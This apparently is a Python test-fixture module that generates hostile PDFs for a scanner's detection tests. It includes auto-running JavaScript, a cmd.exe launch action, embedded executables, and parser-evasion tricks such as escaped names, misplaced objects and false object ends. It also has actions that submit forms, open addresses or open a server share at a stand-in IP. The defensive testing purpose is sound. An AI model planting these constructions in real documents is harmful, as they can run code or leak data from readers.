"""Hostile and broken PDFs, as in `hostile.py`."""

from tests.documents.builders import (
    end_record,
    noise,
    of_objects,
    of_packed_objects,
    packed,
    raw_pdf,
)
from tests.documents.files import locked_pdf
from tests.documents.hostile_office import HTML

SCRIPT = "<< /S /JavaScript /JS (app.alert(1)) >>"
LAUNCH = "<< /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) >> >>"
PROGRAM = "<< /Type /Filespec /F (a.exe) /EF << /F 2 0 R >> >>"
PROGRAM_INSIDE = f"/Names << /EmbeddedFiles << /Names [(a.exe) {PROGRAM}] >> >>"
LOOP = ["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Count 9 /Kids [2 0 R 2 0 R] >>", "<< >>"]
FIELD = f"<< /FT /Tx /T (a) /AA << /C {SCRIPT} >> >>"
DYNAMIC = "<< /Length 33 >>\nstream\n<xdp:xdp><template/></xdp:xdp>\nendstream"
FILM = "<< /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << /Configurations [] >> >>"
SPACE = "<< /Subtype /3D /Rect [0 0 9 9] /3DD << /Type /3D /OnInstantiate 2 0 R >> >>"
PINNED = f"<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS {PROGRAM} >>"
LINK = "<< /Subtype /Link /Rect [0 0 9 9] >>"
SHARE = "(\\\\\\\\198.51.100.7\\\\x.pdf)"


def behind_jumps(number):
    """A script that starts after so many jumps to a page."""
    action = SCRIPT
    for _jump in range(number):
        action = f"<< /S /GoTo /D [1] /Next {action} >>"
    return f"/OpenAction {action}"


def with_object(catalog, *more, written=of_objects):
    """A PDF of one page and further objects, of which the first is number 4."""
    pages = "<< /Type /Pages /Count 1 /Kids [3 0 R] >>"
    page = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
    return written([f"<< /Type /Catalog /Pages 2 0 R {catalog} >>", pages, page, *more, "<< >>"])


def opening(action):
    return lambda: raw_pdf(f"/OpenAction << {action} >>")


def scripted(algorithm):
    """With a script, locked, and opened by everybody without a password."""
    return lambda: locked_pdf(raw_pdf(f"/OpenAction {SCRIPT}"), "", algorithm)


def misplaced(*former):
    """A script in an object that the table of objects places elsewhere, as readers that mend tables find it.

    Objects of the same number may stand before it.
    """
    made = with_object("/OpenAction 4 0 R", "\nendobj\n4 0 obj\n".join([*former, SCRIPT]))
    at = made.index(b"4 0 obj")
    return made.replace(b"%010d" % at, b"%010d" % (at + 12))


PDFS = {
    "PDF and archive": ("a.pdf", lambda: raw_pdf(after=packed([("a.txt", b"x")])), "polyglot"),
    "PDF and web page": ("a.pdf", lambda: raw_pdf(after=HTML), "polyglot"),
    "PDF that begins as a web page": ("a.pdf", lambda: b"%PDF-1.7\n" + HTML + raw_pdf(), "polyglot"),
    "PDF behind something": ("a.pdf", lambda: b"0123456789" + raw_pdf(), "kind"),
    "PDF cut off": ("a.pdf", lambda: raw_pdf()[:90], "damaged"),
    "PDF of noise": ("a.pdf", lambda: noise(b"%PDF-1.7\n", 50_000), "damaged"),
    "PDF without pages": ("a.pdf", lambda: raw_pdf(pages=0), "damaged"),
    "PDF whose pages run in a circle": ("a.pdf", lambda: of_objects(LOOP), "damaged"),
    "PDF of too many pages": ("a.pdf", lambda: raw_pdf(pages=5_001), "too_many_pages"),
    "PDF with a script": ("a.pdf", lambda: raw_pdf(f"/OpenAction {SCRIPT}"), "javascript"),
    "PDF with a script behind a jump": (
        "a.pdf",
        lambda: raw_pdf(f"/OpenAction << /S /GoTo /D [1] /Next [{SCRIPT}] >>"),
        "javascript",
    ),
    "PDF with a script by name": (
        "a.pdf",
        lambda: raw_pdf(f"/Names << /JavaScript << /Names [(a) {SCRIPT}] >> >>"),
        "javascript",
    ),
    "PDF with a script on a page": ("a.pdf", lambda: raw_pdf(page=f"/AA << /O {SCRIPT} >>"), "javascript"),
    "PDF that starts a program": ("a.pdf", lambda: raw_pdf(page=f"/Annots [{LAUNCH}]"), "launch"),
    "PDF with a program inside": ("a.pdf", lambda: raw_pdf(PROGRAM_INSIDE), "attachment"),
    "PDF with a script, locked with RC4": ("a.pdf", scripted("RC4-128"), "javascript"),
    "PDF with a script, locked with AES-128": ("a.pdf", scripted("AES-128"), "javascript"),
    "PDF with a script, locked with AES-256": ("a.pdf", scripted("AES-256"), "javascript"),
    "PDF with a program inside, locked with AES": (
        "a.pdf",
        lambda: locked_pdf(raw_pdf(f"/AF [{PROGRAM}]"), "", "AES-256"),
        "attachment",
    ),
    "PDF with a script behind many jumps": ("a.pdf", lambda: raw_pdf(behind_jumps(25)), "javascript"),
    "PDF with a script behind many links": (
        "a.pdf",
        lambda: raw_pdf(page=f"/Annots [{LINK * 5_000} << /Subtype /Link /A {SCRIPT} >>]"),
        "javascript",
    ),
    "PDF with a script in its outline": (
        "a.pdf",
        lambda: raw_pdf(f"/Outlines << /First << /Title (a) /A {SCRIPT} >> /Count 1 >>"),
        "javascript",
    ),
    "PDF with a script in a field": (
        "a.pdf",
        lambda: with_object("/AcroForm << /Fields [4 0 R] >>", FIELD),
        "javascript",
    ),
    "PDF with a script above a field": (
        "a.pdf",
        lambda: raw_pdf(page=f"/Annots [<< /Subtype /Widget /Rect [0 0 9 9] /Parent {FIELD} >>]"),
        "javascript",
    ),
    "PDF with a script in a packed object": (
        "a.pdf",
        lambda: with_object("/AcroForm << /Fields [4 0 R] >>", FIELD, written=of_packed_objects),
        "javascript",
    ),
    "PDF with a script spelled otherwise": (
        "a.pdf",
        lambda: raw_pdf("/OpenAction << /S /J#61va#53cript /J#53 (app.alert(1)) >>"),
        "javascript",
    ),
    "PDF with a script behind a false end": (
        "a.pdf",
        lambda: with_object("/OpenAction 4 0 R", "<< /a (( endobj) \\) >> stream) % >> stream\n/S /JavaScript >>"),
        "javascript",
    ),
    "PDF with a script in no right place": ("a.pdf", misplaced, "javascript"),
    "PDF with a script in the second of two places": ("a.pdf", lambda: misplaced("<< >>"), "javascript"),
    "PDF with a script in a space": ("a.pdf", lambda: raw_pdf(page=f"/Annots [{SPACE}]"), "javascript"),
    "PDF that is a dynamic form": ("a.pdf", lambda: with_object("/AcroForm << /XFA 4 0 R >>", DYNAMIC), "form"),
    "PDF with a film that runs": ("a.pdf", lambda: raw_pdf(page=f"/Annots [{FILM}]"), "attachment"),
    "PDF with a program pinned to a page": ("a.pdf", lambda: raw_pdf(page=f"/Annots [{PINNED}]"), "attachment"),
    "PDF with a program beside it": ("a.pdf", lambda: raw_pdf(f"/AF [{PROGRAM}]"), "attachment"),
    "PDF that sends a form by itself": ("a.pdf", opening("/S /SubmitForm /F (http://198.51.100.7/x)"), "leaves"),
    "PDF that opens an address": ("a.pdf", opening("/S /URI /URI (http://198.51.100.7/x)"), "leaves"),
    "PDF that opens a file of a server": ("a.pdf", opening(f"/S /GoToR /F {SHARE} /D [0]"), "leaves"),
    "PDF that leaves after a jump": (
        "a.pdf",
        opening("/S /GoTo /D [1] /Next [<< /S /URI /URI (http://198.51.100.7/x) >>]"),
        "leaves",
    ),
    "PDF whose page opens an address": (
        "a.pdf",
        lambda: raw_pdf(page="/AA << /O << /S /URI /URI (http://198.51.100.7/x) >> >>"),
        "leaves",
    ),
    "PDF and archive with two ends": (
        "a.pdf",
        lambda: raw_pdf(after=packed([("a.txt", b"x")], comment=end_record() + b"zz")),
        "polyglot",
    ),
    "PDF and archive that ends as a PDF": (
        "a.pdf",
        lambda: raw_pdf(after=packed([("a.txt", b"x")], comment=b"\nstartxref\n9\n%%EOF" + end_record())),
        "polyglot",
    ),
    "PDF and archive without an end": ("a.pdf", lambda: raw_pdf(after=b"PK\x03\x04" + bytes(30)), "polyglot"),
}
